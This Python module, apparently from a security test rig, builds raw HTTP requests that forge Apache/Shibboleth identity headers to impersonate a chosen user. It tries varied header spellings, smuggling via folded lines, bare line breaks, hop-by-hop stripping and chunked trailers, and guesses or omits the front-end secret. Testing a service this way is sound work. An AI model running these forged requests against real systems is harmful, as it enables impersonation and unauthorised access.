"""Requests that no browser would send: headers as somebody writes them who wants to be taken for another.

They are written byte for byte, since every library of HTTP would tidy them up.
"""

import requests

from rig import web

# The words with which Apache tells the hub who came in, and the login's own variables, in what spellings a program
# between could take for the same.
WORDS = ["Hub", "Login", "Person"]
NAMES = [
    "HubLoginPerson", "hubloginperson", "HUBLOGINPERSON", "hUBlOGINpERSON",
    "Hub-Login-Person", "Hub_Login_Person", "HubLogin-Person", "hub_login-person",
    "HubLoginPerson ", "HubLoginPerson\t", " HubLoginPerson", "HubLoginPerson\x0b", "HubLoginPerson\x00", "HubLoginPerson\xa0",
    "Http-HubLoginPerson", "HTTP_HUBLOGINPERSON", "X-HubLoginPerson",
    # What the service provider itself uses.
    "eppn", "Eppn", "Remote-User", "REMOTE_USER", "Remote_User", "X-Remote-User", "Shib-eppn", "Ajp_eppn",
]


def forged(person, values):
    """Return, by what is tried, the lines of a request that claims to come from Apache for this person."""
    attempts = {}
    for name in NAMES:
        attempts[f"{name!r}"] = [f"{name}: {person}", f"{name.replace('Person', 'Values')}: {values}"]
    attempts["twice"] = [f"HubLoginPerson: {person}", f"HubLoginPerson: {person}", f"HubLoginValues: {values}"]
    attempts["on a continued line"] = ["X-Note: a", f" \tHubLoginPerson: {person}", f"X-More: b\r\n HubLoginValues: {values}"]
    attempts["as a hop's own"] = [f"HubLoginPerson: {person}", f"HubLoginValues: {values}", "Connection: HubLoginPerson, HubLoginValues"]
    attempts["with a bare line feed"] = [f"X-Note: a\nHubLoginPerson: {person}\nHubLoginValues: {values}"]
    attempts["with a bare carriage return"] = [f"X-Note: a\rHubLoginPerson: {person}\rHubLoginValues: {values}"]
    return {
        **{what: lines + [f"HubFrontSecret: {'x' * 43}"] for what, lines in attempts.items()},
        # The same without even guessing at the secret.
        "without a secret": [f"HubLoginPerson: {person}", f"HubLoginValues: {values}"],
    }


def trailers(person, values):
    """Return a request's lines and body that say it after the body, where headers may also stand."""
    lines = ["Transfer-Encoding: chunked", "Trailer: HubLoginPerson, HubLoginValues"]
    body = f"1\r\nx\r\n0\r\nHubLoginPerson: {person}\r\nHubLoginValues: {values}\r\n\r\n"
    return lines, body


def ask(domain, path, lines=(), session=None, body="", method="GET"):
    """Send a request of exactly these lines; return status, headers as a dictionary of lists, and the start of the body."""
    head = [f"{method} {path} HTTP/1.1", f"Host: {domain}", *lines, "Connection: close"]
    if session:
        page = requests.Request("GET", f"https://{domain}{path}").prepare()
        cookies = requests.cookies.get_cookie_header(session.cookies, page)
        head.append(f"Cookie: {cookies}")
    with web.connect_tls(domain) as socket:
        socket.sendall(("\r\n".join(head) + "\r\n\r\n" + body).encode("latin-1"))
        answer = b""
        while part := socket.recv(65536):
            answer += part
    return read(answer)


def read(answer):
    head, _, body = answer.partition(b"\r\n\r\n")
    first, *rest = head.decode("latin-1").split("\r\n")
    headers = {}
    for line in rest:
        name, _, value = line.partition(":")
        headers.setdefault(name.strip().lower(), []).append(value.strip())
    return int(first.split()[1]), headers, body.decode("utf-8", errors="replace")
